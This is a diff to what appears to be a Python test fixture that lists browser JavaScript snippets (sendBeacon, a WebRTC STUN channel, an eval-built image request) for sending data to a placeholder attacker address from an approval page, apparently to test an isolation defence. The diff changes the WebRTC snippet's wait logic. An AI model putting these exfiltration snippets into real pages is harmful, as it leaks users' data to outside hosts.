@@ -1,3 +1,4 @@
+# ruff: noqa: E501 (attacks stand as they are sent)
 """What an author's code may put on an approval page to do what it should not.
 
 `AWAY` stands for an address of the attacker's, of which each entry has one of its own.
@@ -77,7 +78,7 @@ SENDING: Mapping[str, str] = {
     "report": 'new ReportingObserver(() => {}).observe(); navigator.sendBeacon?.("AWAY")',
     "webrtc": 'const p = new RTCPeerConnection({iceServers: [{urls: "AWAY".replace(/http:..([^/]*).*/,'
     ' "stun:$1")}]}); p.createDataChannel("x"); await p.setLocalDescription(await p.createOffer());'
-    " await new Promise(good => { p.onicecandidate = e => e.candidate || good(); })",
+    " await new Promise(good => setTimeout(good, 500))",
     "eval": 'eval(`new Image().src = "AWAY"`)',
 }
 """Scripts that send something to the attacker's server."""
